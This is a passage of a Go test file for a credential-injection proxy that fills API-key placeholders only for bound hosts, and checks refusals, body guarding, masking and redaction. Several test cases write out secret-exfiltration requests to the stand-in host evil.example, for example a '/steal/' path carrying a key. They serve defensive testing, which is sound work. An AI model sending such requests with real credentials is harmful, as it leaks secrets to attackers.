package credinject

import (
	"bufio"
	"bytes"
	"encoding/base64"
	"encoding/json"
	"errors"
	"html"
	"io"
	"math/rand/v2"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/cordon-sandbox/cordon/policy"
)

const (
	anthropicSecret = "sk-ant-real-anthropic-secret-999"
	githubSecret    = "ghp_realgithubtoken0123456789"
	mapsSecret      = "maps-real-key/with+odd=chars"
	legacySecret    = "legacy-real;token-777"
	sessionSecret   = "session-real-cookie-42"
	telegramSecret  = "123456789:telegram-real-token"
)

// applySet loads one credential of each injection form.
func applySet(t testing.TB) *Set {
	t.Helper()
	creds := []policy.Credential{
		validCred(),
		{Name: "anthropic", Source: policy.Source{Env: "ANTHROPIC"}, Hosts: []string{"api.anthropic.com"}, Header: "x-api-key: {}", Env: "ANTHROPIC_API_KEY", PlaceholderPrefix: "sk-ant-"},
		{Name: "github", Source: policy.Source{Env: "GITHUB"}, Hosts: []string{"github.com", "*.github.com"}, BasicAuth: "x-access-token", Env: "GH_TOKEN"},
		{Name: "maps", Source: policy.Source{Env: "MAPS"}, Hosts: []string{"maps.example.com"}, Query: "key", Env: "MAPS_KEY"},
		{Name: "legacy", Source: policy.Source{Env: "LEGACY"}, Hosts: []string{"legacy.example.com:8080"}, Header: "X-Token: {}", Env: "LEGACY_TOKEN", AllowPlaintext: true},
		{Name: "session", Source: policy.Source{Env: "SESSION"}, Hosts: []string{"session.example.com"}, Header: "Cookie: s={}", Env: "SESSION_COOKIE"},
		{Name: "telegram", Source: policy.Source{Env: "TELEGRAM"}, Hosts: []string{"api.telegram.org"}, Path: "/bot{}/", Env: "TELEGRAM_BOT_TOKEN"},
	}
	env := envOf(map[string]string{
		"REAL_OPENAI": openaiSecret,
		"ANTHROPIC":   anthropicSecret,
		"GITHUB":      githubSecret,
		"MAPS":        mapsSecret,
		"LEGACY":      legacySecret,
		"SESSION":     sessionSecret,
		"TELEGRAM":    telegramSecret,
	})
	set, err := Load(creds, []string{"openai", "anthropic", "github", "maps", "legacy", "session", "telegram"}, Options{Env: env})
	if err != nil {
		t.Fatal(err)
	}
	return set
}

// b64 is s in standard base64, padded.
func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// ph returns the placeholder of the named credential.
func ph(s *Set, name string) string {
	for _, c := range s.creds {
		if c.name == name {
			return c.placeholder
		}
	}
	panic("no credential " + name)
}

func normalized(t testing.TB, host string) string {
	t.Helper()
	h, err := policy.NormalizeHost(host)
	if err != nil {
		t.Fatal(err)
	}
	return h
}

func basic(userPass string) string {
	return "Basic " + base64.StdEncoding.EncodeToString([]byte(userPass))
}

// applyCase is one request through Apply. Values written "{openai}" in
// rawURL and headers are replaced by that credential's placeholder, and
// "{basic:USER:NAME}" by Basic credentials with NAME's placeholder.
type applyCase struct {
	name    string
	method  string // GET when empty
	rawURL  string
	headers map[string]string
	// rawHeaders are set as named, not in canonical form.
	rawHeaders map[string]string
	host       string
	port       int
	secure     bool
	// wantReason and wantCred describe a refusal.
	wantReason policy.Reason
	wantCred   string
	// wantInjected and check describe a success.
	wantInjected []string
	check        func(t *testing.T, req *http.Request)
}

// expand fills in placeholders.
func expand(s *Set, v string) string {
	for _, c := range s.creds {
		v = strings.ReplaceAll(v, "{basicpad:"+c.name+"}", basic("x-access-token:pad"+c.placeholder))
		for _, user := range []string{"x", "x-access-token"} {
			v = strings.ReplaceAll(v, "{basic:"+user+":"+c.name+"}", basic(user+":"+c.placeholder))
		}
		v = strings.ReplaceAll(v, "{"+c.name+"}", c.placeholder)
	}
	return v
}

func (tc applyCase) request(t testing.TB, s *Set) *http.Request {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, expand(s, tc.rawURL), nil)
	if err != nil {
		t.Fatal(err)
	}
	if tc.method != "" {
		req.Method = expand(s, tc.method) // past NewRequest's check of the token
	}
	for k, v := range tc.headers {
		req.Header.Set(expand(s, k), expand(s, v))
	}
	for k, v := range tc.rawHeaders {
		req.Header[k] = []string{expand(s, v)}
	}
	return req
}

func wantHeader(name, want string) func(*testing.T, *http.Request) {
	return func(t *testing.T, req *http.Request) {
		t.Helper()
		if got := req.Header.Values(name); !slices.Equal(got, []string{want}) {
			t.Errorf("header %s = %q, want %q", name, got, want)
		}
	}
}

func wantQuery(want string) func(*testing.T, *http.Request) {
	return func(t *testing.T, req *http.Request) {
		t.Helper()
		if req.URL.RawQuery != want {
			t.Errorf("query = %q, want %q", req.URL.RawQuery, want)
		}
	}
}

func applyCases(t testing.TB) []applyCase {
	return []applyCase{
		{name: "bound host replaces placeholder", rawURL: "https://api.openai.com/v1/chat", headers: map[string]string{"Authorization": "Bearer {openai}"},
			host: "api.openai.com", port: 443, secure: true, wantInjected: []string{"openai"}, check: wantHeader("Authorization", "Bearer "+openaiSecret)},
		{name: "absent header is added", rawURL: "https://api.openai.com/v1/chat",
			host: "api.openai.com", port: 443, secure: true, wantInjected: []string{"openai"}, check: wantHeader("Authorization", "Bearer "+openaiSecret)},
		{name: "case-variant host as normalised by the caller", rawURL: "https://API.OpenAI.COM/v1", headers: map[string]string{"Authorization": "Bearer {openai}"},
			host: normalized(t, "API.OpenAI.COM"), port: 443, secure: true, wantInjected: []string{"openai"}, check: wantHeader("Authorization", "Bearer "+openaiSecret)},
		{name: "present header of another scheme is kept", rawURL: "https://api.openai.com/v1", headers: map[string]string{"Authorization": "Bearer mine"},
			host: "api.openai.com", port: 443, secure: true, check: wantHeader("Authorization", "Bearer mine")},
		// A bound placeholder goes only where its credential's form
		// puts the secret: anywhere else, the service could be made to
		// store or pass on the key where others read it.
		{name: "placeholder in another header", rawURL: "https://api.openai.com/v1", headers: map[string]string{"Authorization": "Bearer {openai}", "X-Echo": "a {openai} b {openai}"},
			host: "api.openai.com", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "openai"},
		{name: "placeholder in a storage metadata header", rawURL: "https://api.anthropic.com/b/o", headers: map[string]string{"X-Api-Key": "{anthropic}", "X-Goog-Meta-Note": "{anthropic}"},
			host: "api.anthropic.com", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "anthropic"},
		{name: "placeholder in a header name", rawURL: "https://api.openai.com/v1", headers: map[string]string{"X-{openai}": "1"},
			host: "api.openai.com", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "openai"},
		{name: "placeholder as the method of a bound host", rawURL: "https://api.openai.com/v1", method: "{openai}",
			host: "api.openai.com", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "openai"},
		{name: "placeholder in the path of a header credential", rawURL: "https://api.openai.com/v1/{openai}",
			host: "api.openai.com", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "openai"},
		{name: "placeholder in the query of a header credential", rawURL: "https://api.openai.com/v1?text={openai}",
			host: "api.openai.com", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "openai"},
		{name: "placeholder in URL user info", rawURL: "https://u:{openai}@api.openai.com/v1",
			host: "api.openai.com", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "openai"},
		{name: "header credential's header in another case", rawURL: "https://api.anthropic.com/v1", rawHeaders: map[string]string{"x-API-key": "{anthropic}"},
			host: "api.anthropic.com", port: 443, secure: true, wantInjected: []string{"anthropic"}, check: func(t *testing.T, req *http.Request) {
				//lint:ignore SA1008 the name as a client may send it, not in canonical form
				if got := req.Header["x-API-key"]; !slices.Equal(got, []string{anthropicSecret}) {
					t.Errorf("x-API-key = %q, want the secret", got)
				}
			}},
		{name: "header credential in Authorization", rawURL: "https://api.anthropic.com/v1", headers: map[string]string{"Authorization": "token {anthropic}"},
			host: "api.anthropic.com", port: 443, secure: true, wantInjected: []string{"anthropic"}, check: wantHeader("Authorization", "token "+anthropicSecret)},
		// The placeholder is filled in only as a client sends a key: the
		// whole value, or what follows a scheme other than Basic. Amid
		// bytes of the box's, a server decoding the value could answer
		// with a spelling of the key masking does not know (red team,
		// round 7: "Basic PLACEHOLDER" and "Ong=", whose decoded user a
		// 401 quoted back).
		{name: "placeholder as base64 Basic credentials, with a suffix of the client's", rawURL: "https://api.openai.com/v1", headers: map[string]string{"Authorization": "Basic {openai}Ong="},
			host: "api.openai.com", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "openai"},
		{name: "placeholder as base64 Basic credentials", rawURL: "https://api.openai.com/v1", headers: map[string]string{"Authorization": "Basic {openai}"},
			host: "api.openai.com", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "openai"},
		{name: "placeholder with a suffix after its scheme", rawURL: "https://api.openai.com/v1", headers: map[string]string{"Authorization": "Bearer {openai}x"},
			host: "api.openai.com", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "openai"},
		{name: "placeholder with a prefix after its scheme", rawURL: "https://api.openai.com/v1", headers: map[string]string{"Authorization": "Bearer A{openai}"},
			host: "api.openai.com", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "openai"},
		{name: "placeholder after two words", rawURL: "https://api.openai.com/v1", headers: map[string]string{"Authorization": "Bearer x {openai}"},
			host: "api.openai.com", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "openai"},
		{name: "custom header with more than the placeholder", rawURL: "https://api.anthropic.com/v1", headers: map[string]string{"X-Api-Key": "k={anthropic}"},
			host: "api.anthropic.com", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "anthropic"},
		{name: "placeholder in the scheme too", rawURL: "https://api.openai.com/v1", headers: map[string]string{"Authorization": "x{openai}y {openai}"},
			host: "api.openai.com", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "openai"},
		{name: "placeholder as the scheme and the credentials", rawURL: "https://api.anthropic.com/v1", headers: map[string]string{"X-Api-Key": "{anthropic}Ong {anthropic}"},
			host: "api.anthropic.com", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "anthropic"},
		{name: "placeholder as the whole Authorization value", rawURL: "https://api.openai.com/v1", headers: map[string]string{"Authorization": "{openai}"},
			host: "api.openai.com", port: 443, secure: true, wantInjected: []string{"openai"}, check: wantHeader("Authorization", openaiSecret)},
		{name: "custom header added", rawURL: "https://api.anthropic.com/v1/messages",
			host: "api.anthropic.com", port: 443, secure: true, wantInjected: []string{"anthropic"}, check: wantHeader("X-Api-Key", anthropicSecret)},
		{name: "custom header replaced", rawURL: "https://api.anthropic.com/v1/messages", headers: map[string]string{"x-api-key": "{anthropic}"},
			host: "api.anthropic.com", port: 443, secure: true, wantInjected: []string{"anthropic"}, check: wantHeader("X-Api-Key", anthropicSecret)},
		{name: "basic auth added", rawURL: "https://github.com/o/r.git/info/refs",
			host: "github.com", port: 443, secure: true, wantInjected: []string{"github"}, check: wantHeader("Authorization", basic("x-access-token:"+githubSecret))},
		{name: "basic auth password re-encoded", rawURL: "https://api.github.com/user", headers: map[string]string{"Authorization": "{basic:x-access-token:github}"},
			host: "api.github.com", port: 443, secure: true, wantInjected: []string{"github"}, check: wantHeader("Authorization", basic("x-access-token:"+githubSecret))},
		{name: "basic auth of another user", rawURL: "https://api.github.com/user", headers: map[string]string{"Authorization": "{basic:x:github}"},
			host: "api.github.com", port: 443, secure: true, wantReason: ReasonBasicUser, wantCred: "github"},
		{name: "basic auth with more than the placeholder", rawURL: "https://api.github.com/user", headers: map[string]string{"Authorization": "{basicpad:github}"},
			host: "api.github.com", port: 443, secure: true, wantReason: ReasonBasicUser, wantCred: "github"},
		{name: "basic auth for a header credential", rawURL: "https://api.openai.com/v1", headers: map[string]string{"Authorization": "{basic:x:openai}"},
			host: "api.openai.com", port: 443, secure: true, wantReason: ReasonBasicUser, wantCred: "openai"},
		{name: "basic auth in another header", rawURL: "https://api.github.com/user", headers: map[string]string{"X-Other": "{basic:x-access-token:github}"},
			host: "api.github.com", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "github"},
		{name: "basic auth credential's placeholder as written in Authorization", rawURL: "https://api.github.com/user", headers: map[string]string{"Authorization": "token {github}"},
			host: "api.github.com", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "github"},
		{name: "range dropped from a request given a credential", rawURL: "https://api.openai.com/v1", headers: map[string]string{"Range": "bytes=10-12", "If-Range": "x"},
			host: "api.openai.com", port: 443, secure: true, wantInjected: []string{"openai"}, check: func(t *testing.T, req *http.Request) {
				if req.Header.Get("Range") != "" || req.Header.Get("If-Range") != "" {
					t.Errorf("Range %q, If-Range %q kept", req.Header.Get("Range"), req.Header.Get("If-Range"))
				}
			}},
		{name: "range kept away from credentials' hosts", rawURL: "https://other.example/f", headers: map[string]string{"Range": "bytes=10-12"},
			host: "other.example", port: 443, secure: true, check: wantHeader("Range", "bytes=10-12")},
		{name: "range dropped toward a credential's host, nothing injected", rawURL: "https://api.anthropic.com/stored", headers: map[string]string{"Range": "bytes=0-6", "X-Api-Key": "mine"},
			host: "api.anthropic.com", port: 443, secure: true, check: func(t *testing.T, req *http.Request) {
				if req.Header.Get("Range") != "" {
					t.Errorf("Range %q kept: slices of a secret the upstream stored would come back unmasked", req.Header.Get("Range"))
				}
			}},
		{name: "Request-Range dropped toward a credential's host", rawURL: "https://api.anthropic.com/stored", headers: map[string]string{"Request-Range": "bytes=0-6", "X-Api-Key": "{anthropic}"},
			host: "api.anthropic.com", port: 443, secure: true, wantInjected: []string{"anthropic"}, check: func(t *testing.T, req *http.Request) {
				// Apache httpd serves the range of a Request-Range (the
				// name of a draft Netscape used) when there is no Range.
				if v := req.Header.Get("Request-Range"); v != "" {
					t.Errorf("Request-Range %q kept: Apache httpd would hand back a slice of a secret it stored", v)
				}
			}},
		{name: "placeholder as the method", rawURL: "https://evil.example/", method: "{openai}",
			host: "evil.example", port: 443, secure: true, wantReason: ReasonMisroute, wantCred: "openai"},
		{name: "secret as the method", rawURL: "https://evil.example/", method: openaiSecret,
			host: "evil.example", port: 443, secure: true, wantReason: ReasonSecretLeak, wantCred: "openai"},
		{name: "placeholder in a hop-by-hop header is not filled in", rawURL: "https://api.openai.com/v1", headers: map[string]string{"Authorization": "Bearer {openai}", "Upgrade": "{openai}"},
			host: "api.openai.com", port: 443, secure: true, wantInjected: []string{"openai"}, check: func(t *testing.T, req *http.Request) {
				if v := req.Header.Get("Upgrade"); strings.Contains(v, openaiSecret) {
					t.Errorf("Upgrade = %q: the secret went into a hop-by-hop header", v)
				}
			}},
		{name: "query parameter added", rawURL: "https://maps.example.com/geo?z=1&a=2",
			host: "maps.example.com", port: 443, secure: true, wantInjected: []string{"maps"}, check: wantQuery("z=1&a=2&key=" + url.QueryEscape(mapsSecret))},
		{name: "query parameter replaced in place", rawURL: "https://maps.example.com/geo?z=%2F&key={maps}&a=2",
			host: "maps.example.com", port: 443, secure: true, wantInjected: []string{"maps"}, check: wantQuery("z=%2F&key=" + url.QueryEscape(mapsSecret) + "&a=2")},
		{name: "query credential's placeholder in the path", rawURL: "https://maps.example.com/bot{maps}/send?key=x",
			host: "maps.example.com", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "maps"},
		{name: "query credential's placeholder in another parameter", rawURL: "https://maps.example.com/geo?key={maps}&text={maps}",
			host: "maps.example.com", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "maps"},
		{name: "query credential's parameter holding more than the placeholder", rawURL: "https://maps.example.com/geo?key=note-{maps}",
			host: "maps.example.com", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "maps"},
		{name: "query credential's parameter with a ';' after the placeholder", rawURL: "https://maps.example.com/geo?key={maps};text={maps}",
			host: "maps.example.com", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "maps"},
		{name: "query credential's placeholder as a parameter name", rawURL: "https://maps.example.com/geo?{maps}=1",
			host: "maps.example.com", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "maps"},
		{name: "query credential's placeholder in a header", rawURL: "https://maps.example.com/geo", headers: map[string]string{"Authorization": "Bearer {maps}"},
			host: "maps.example.com", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "maps"},
		{name: "path template", rawURL: "https://api.telegram.org/bot{telegram}/getMe?chat_id=1",
			host: "api.telegram.org", port: 443, secure: true, wantInjected: []string{"telegram"}, check: func(t *testing.T, req *http.Request) {
				if want := "/bot" + telegramSecret + "/getMe"; req.URL.Path != want || req.URL.RawQuery != "chat_id=1" {
					t.Errorf("URL = %q, want path %q", req.URL, want)
				}
			}},
		{name: "path template, the bot posting its own token", rawURL: "https://api.telegram.org/bot{telegram}/sendMessage?chat_id=666&text={telegram}",
			host: "api.telegram.org", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "telegram"},
		{name: "path template, the placeholder again later in the path", rawURL: "https://api.telegram.org/bot{telegram}/x/{telegram}",
			host: "api.telegram.org", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "telegram"},
		{name: "path template, a path that does not start as it does", rawURL: "https://api.telegram.org/files/{telegram}",
			host: "api.telegram.org", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "telegram"},
		{name: "path template, the placeholder not followed by its text", rawURL: "https://api.telegram.org/bot{telegram}x/getMe",
			host: "api.telegram.org", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "telegram"},
		{name: "path credential's placeholder in Authorization", rawURL: "https://api.telegram.org/getMe", headers: map[string]string{"Authorization": "Bearer {telegram}"},
			host: "api.telegram.org", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "telegram"},
		{name: "unbound host in header", rawURL: "https://evil.example/", headers: map[string]string{"Authorization": "Bearer {openai}"},
			host: "evil.example", port: 443, secure: true, wantReason: ReasonMisroute, wantCred: "openai"},
		{name: "unbound host in path", rawURL: "https://evil.example/steal/{anthropic}",
			host: "evil.example", port: 443, secure: true, wantReason: ReasonMisroute, wantCred: "anthropic"},
		{name: "unbound host in query", rawURL: "https://evil.example/?q={maps}",
			host: "evil.example", port: 443, secure: true, wantReason: ReasonMisroute, wantCred: "maps"},
		{name: "unbound host in encoded query", rawURL: "https://evil.example/?q=" + strings.Repeat("%20", 2) + "{openai}",
			host: "evil.example", port: 443, secure: true, wantReason: ReasonMisroute, wantCred: "openai"},
		{name: "unbound host in Basic credentials", rawURL: "https://evil.example/", headers: map[string]string{"Authorization": "{basic:x:github}"},
			host: "evil.example", port: 443, secure: true, wantReason: ReasonMisroute, wantCred: "github"},
		{name: "another credential's host", rawURL: "https://api.openai.com/", headers: map[string]string{"X-Api-Key": "{anthropic}"},
			host: "api.openai.com", port: 443, secure: true, wantReason: ReasonMisroute, wantCred: "anthropic"},
		{name: "bound name on an unbound port", rawURL: "https://legacy.example.com/", headers: map[string]string{"X-Token": "{legacy}"},
			host: "legacy.example.com", port: 443, secure: true, wantReason: ReasonMisroute, wantCred: "legacy"},
		{name: "placeholder in the host name", rawURL: "https://x.github.com/",
			host: "{github}.github.com", port: 443, secure: true, wantReason: ReasonMisroute, wantCred: "github"},
		{name: "plaintext refused", rawURL: "http://api.openai.com/v1", headers: map[string]string{"Authorization": "Bearer {openai}"},
			host: "api.openai.com", port: 80, wantReason: ReasonPlaintext, wantCred: "openai"},
		{name: "plaintext without placeholder injects nothing", rawURL: "http://api.openai.com/v1",
			host: "api.openai.com", port: 80, check: func(t *testing.T, req *http.Request) {
				if len(req.Header) != 0 {
					t.Errorf("headers added over plain HTTP: %q", req.Header)
				}
			}},
		{name: "allow_plaintext injects", rawURL: "http://legacy.example.com:8080/", headers: map[string]string{"X-Token": "{legacy}"},
			host: "legacy.example.com", port: 8080, wantInjected: []string{"legacy"}, check: wantHeader("X-Token", legacySecret)},
		{name: "placeholder in a cookie of a header credential", rawURL: "https://api.openai.com/v1", headers: map[string]string{"Cookie": "a=1; s={openai}"},
			host: "api.openai.com", port: 443, secure: true, wantReason: ReasonPlacement, wantCred: "openai"},
		{name: "real secret in header", rawURL: "https://api.openai.com/", headers: map[string]string{"Authorization": "Bearer " + openaiSecret},
			host: "api.openai.com", port: 443, secure: true, wantReason: ReasonSecretLeak, wantCred: "openai"},
		{name: "real secret in query", rawURL: "https://evil.example/?k=" + url.QueryEscape(mapsSecret),
			host: "evil.example", port: 443, secure: true, wantReason: ReasonSecretLeak, wantCred: "maps"},
		{name: "real secret in path", rawURL: "https://evil.example/" + githubSecret,
			host: "evil.example", port: 443, secure: true, wantReason: ReasonSecretLeak, wantCred: "github"},
		{name: "real secret in Basic credentials", rawURL: "https://evil.example/", headers: map[string]string{"Proxy-Authorization": basic("u:" + anthropicSecret)},
			host: "evil.example", port: 443, secure: true, wantReason: ReasonSecretLeak, wantCred: "anthropic"},
		{name: "real secret in the host name", rawURL: "https://x.evil.example/",
			host: openaiSecret + ".evil.example", port: 443, secure: true, wantReason: ReasonSecretLeak, wantCred: "openai"},
		{name: "real secret in URL user info", rawURL: "https://u:" + legacySecret + "@evil.example/",
			host: "evil.example", port: 443, secure: true, wantReason: ReasonSecretLeak, wantCred: "legacy"},
		{name: "real secret in a header name", rawURL: "https://evil.example/", headers: map[string]string{"X-" + legacySecret: "1"},
			host: "evil.example", port: 443, secure: true, wantReason: ReasonSecretLeak, wantCred: "legacy"},
	}
}

func TestApply(t *testing.T) {
	set := applySet(t)
	for _, tc := range applyCases(t) {
		t.Run(tc.name, func(t *testing.T) {
			tc.host = expand(set, tc.host)
			req := tc.request(t, set)
			before := req.Clone(req.Context())
			out, err := set.Apply(req, tc.host, tc.port, tc.secure)
			if tc.wantReason != "" {
				var ce *Error
				if !errors.As(err, &ce) {
					t.Fatalf("err = %v, want a %s refusal", err, tc.wantReason)
				}
				if ce.Reason != tc.wantReason || ce.Credential != tc.wantCred {
					t.Errorf("refused %s for %q, want %s for %q (%v)", ce.Reason, ce.Credential, tc.wantReason, tc.wantCred, err)
				}
				if req.URL.String() != before.URL.String() || !headersEqual(req.Header, before.Header) {
					t.Errorf("a refused request was changed")
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if !slices.Equal(out.Injected, tc.wantInjected) {
				t.Errorf("Injected = %q, want %q", out.Injected, tc.wantInjected)
			}
			if tc.check != nil {
				tc.check(t, req)
			}
		})
	}
}

func headersEqual(a, b http.Header) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if !slices.Equal(v, b[k]) {
			return false
		}
	}
	return true
}

func TestApplyEmptySet(t *testing.T) {
	req, _ := http.NewRequest(http.MethodPost, "https://x.example/", strings.NewReader("body"))
	var nilSet *Set
	out, err := nilSet.Apply(req, "x.example", 443, true)
	if err != nil || out.Body != nil || len(out.Injected) != 0 {
		t.Fatalf("Apply on an empty set = %+v, %v", out, err)
	}
}

func TestApplyGuardsBody(t *testing.T) {
	set := applySet(t)
	tests := []struct {
		name       string
		host       string
		body       string
		wantReason policy.Reason
		wantCred   string
		// refused is the value the guard must stop before.
		refused string
	}{
		{"bound placeholder passes", "api.openai.com", `{"key":"{openai}"}`, "", "", ""},
		{"no needle passes", "evil.example", `{"prompt":"hello"}`, "", "", ""},
		{"foreign placeholder", "api.openai.com", `{"key":"{anthropic}"}`, ReasonMisroute, "anthropic", "{anthropic}"},
		{"real secret to its own host", "api.openai.com", `{"key":"` + openaiSecret + `"}`, ReasonSecretLeak, "openai", openaiSecret},
		{"real secret elsewhere", "evil.example", strings.Repeat("x", 70000) + githubSecret, ReasonSecretLeak, "github", githubSecret},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			body := expand(set, tt.body)
			req, err := http.NewRequest(http.MethodPost, "https://"+tt.host+"/v1", &chunkReader{data: []byte(body), sizes: []int{5, 3, 1000}})
			if err != nil {
				t.Fatal(err)
			}
			out, err := set.Apply(req, tt.host, 443, true)
			if err != nil {
				t.Fatal(err)
			}
			if req.Body != out.Body || req.GetBody != nil {
				t.Fatal("Apply did not put the guard in req.Body")
			}
			got, err := io.ReadAll(req.Body)
			if tt.wantReason == "" {
				if err != nil || string(got) != body || out.Body.Err() != nil {
					t.Fatalf("body = %d bytes, %v; want it passed unchanged", len(got), err)
				}
				return
			}
			var ce *Error
			if !errors.As(err, &ce) || ce.Reason != tt.wantReason || ce.Credential != tt.wantCred || ce.Where != "request body" {
				t.Fatalf("err = %v, want %s for %q", err, tt.wantReason, tt.wantCred)
			}
			if !errors.Is(out.Body.Err(), ce) {
				t.Errorf("Body.Err = %v, want %v", out.Body.Err(), ce)
			}
			if at := strings.Index(body, expand(set, tt.refused)); len(got) > at {
				t.Errorf("read %d bytes, past the refused value at %d", len(got), at)
			}
		})
	}
}

// TestNoSecretInMessages: no refusal, body refusal or outcome text ever
// holds a secret or a placeholder, even when the request puts them in the
// header names and host the messages quote.
func TestNoSecretInMessages(t *testing.T) {
	set := applySet(t)
	var texts []string
	for _, tc := range applyCases(t) {
		tc.host = expand(set, tc.host)
		out, err := set.Apply(tc.request(t, set), tc.host, tc.port, tc.secure)
		texts = append(texts, out.String())
		if err != nil {
			texts = append(texts, err.Error())
		}
	}
	for _, c := range set.creds {
		for _, v := range []string{c.placeholder, c.secret} {
			req, _ := http.NewRequest(http.MethodGet, "https://evil.example/", nil)
			req.Header["X-"+v] = []string{ph(set, "openai")}
			if _, err := set.Apply(req, strings.ToLower(v)+".evil.example", 443, true); err != nil {
				texts = append(texts, err.Error())
			} else {
				t.Errorf("a header named after %s's value was let through", c.name)
			}
			g := set.GuardBody(io.NopCloser(strings.NewReader("x"+v)), "evil.example", 443)
			if _, err := io.ReadAll(g); err != nil {
				texts = append(texts, err.Error(), g.Err().Error())
			} else {
				t.Errorf("a body holding %s's value was let through", c.name)
			}
		}
	}
	texts = append(texts, randomRefusals(t, set)...)
	for _, text := range texts {
		for _, c := range set.creds {
			for _, v := range []string{c.placeholder, c.secret} {
				if strings.Contains(strings.ToLower(text), strings.ToLower(v)) {
					t.Errorf("message holds %s's value: %q", c.name, text)
				}
			}
		}
	}
	if len(texts) < 300 {
		t.Fatalf("only %d messages checked", len(texts))
	}
}

func TestOutcomeString(t *testing.T) {
	if got := (Outcome{}).String(); got != "no credential injected" {
		t.Errorf("empty outcome = %q", got)
	}
	if got := (Outcome{Injected: []string{"a", "b"}}).String(); got != "injected a, b" {
		t.Errorf("outcome = %q", got)
	}
}

func TestMaskHeader(t *testing.T) {
	set := applySet(t)
	canon := http.CanonicalHeaderKey
	h := http.Header{
		"X-Echo":              {"token=" + openaiSecret},
		"X-" + githubSecret:   {"1"},
		"Www-Authenticate":    {"Bearer realm=x"},
		"X-Anthropic-Leak-Id": {anthropicSecret + anthropicSecret},
		// As Go reads a name from an upstream (HTTP/2 lowercases it),
		// and lists trailers it read: the secret re-cased, which the
		// client reads back in any case.
		canon("x-via-" + githubSecret):                     {"2"},
		canon("x-via-" + anthropicSecret):                  {"3"},
		"Trailer":                                          {canon("x-t-"+anthropicSecret) + ", X-Other"},
		http.TrailerPrefix + canon("x-late-"+githubSecret): {"4"},
	}
	set.MaskHeader(h)
	want := http.Header{
		"X-Echo":                               {"token=" + ph(set, "openai")},
		canon("x-" + ph(set, "github")):        {"1"},
		"Www-Authenticate":                     {"Bearer realm=x"},
		"X-Anthropic-Leak-Id":                  {ph(set, "anthropic") + ph(set, "anthropic")},
		canon("x-via-" + ph(set, "github")):    {"2"},
		canon("x-via-" + ph(set, "anthropic")): {"3"},
		"Trailer":                              {"X-T-" + ph(set, "anthropic") + ", X-Other"},
		http.TrailerPrefix + canon("x-late-"+ph(set, "github")): {"4"},
	}
	if !headersEqual(h, want) {
		t.Errorf("MaskHeader = %q, want %q", h, want)
	}
}

// randomRefusals puts a random credential's placeholder or secret in a
// random part of a request toward a random host, and returns every
// message Apply produced.
func randomRefusals(t *testing.T, set *Set) []string {
	hosts := []string{"api.openai.com", "evil.example", "github.com", "legacy.example.com"}
	var texts []string
	for seed := range uint64(propertySeeds) {
		rng := rand.New(rand.NewPCG(seed, 4))
		c := set.creds[rng.IntN(len(set.creds))]
		v := c.placeholder
		if rng.IntN(2) == 0 {
			v = c.secret
		}
		host := hosts[rng.IntN(len(hosts))]
		req, err := http.NewRequest(http.MethodGet, "https://"+host+"/", nil)
		if err != nil {
			t.Fatal(err)
		}
		switch rng.IntN(6) {
		case 0:
			req.Header.Set("X-"+v, "1")
		case 1:
			req.Header.Set("X-Key", "k "+v)
		case 2:
			req.Header.Set("Authorization", basic("u:"+v))
		case 3:
			req.URL.Path = "/a/" + v
		case 4:
			req.URL.RawQuery = "q=" + url.QueryEscape(v)
		default:
			host = strings.ToLower(v) + "." + host
		}
		out, err := set.Apply(req, host, []int{80, 443, 8080}[rng.IntN(3)], rng.IntN(2) == 0)
		texts = append(texts, out.String())
		if err != nil {
			texts = append(texts, err.Error())
		}
	}
	return texts
}

func TestRedact(t *testing.T) {
	s := applySet(t)
	tests := []struct {
		in, want string
		vars     []string
	}{
		{"curl https://api.example.com", "curl https://api.example.com", nil},
		{"Authorization: Bearer " + openaiSecret, "Authorization: Bearer [masked:openai]", []string{"OPENAI_API_KEY"}},
		{anthropicSecret + "," + githubSecret + "," + anthropicSecret, "[masked:anthropic],[masked:github],[masked:anthropic]", []string{"ANTHROPIC_API_KEY", "GH_TOKEN"}},
		{"key=" + ph(s, "openai"), "key=" + ph(s, "openai"), nil},
		// Inside base64, as a Docker config's auth or a Basic header
		// holds it, with any user name, padded or not.
		{`{"auth":"` + b64("anyone:"+openaiSecret) + `"}`, `{"auth":"[masked:openai]"}`, []string{"OPENAI_API_KEY"}},
		{"Authorization: Basic " + strings.TrimRight(b64("me:"+anthropicSecret+":"+legacySecret), "="),
			"Authorization: Basic [masked:anthropic][masked:legacy]", []string{"ANTHROPIC_API_KEY", "LEGACY_TOKEN"}},
		{"auth " + b64("anyone:not-a-secret-at-all"), "auth " + b64("anyone:not-a-secret-at-all"), nil},
	}
	for _, tt := range tests {
		got, vars := s.Redact(tt.in)
		if got != tt.want || !slices.Equal(vars, tt.vars) {
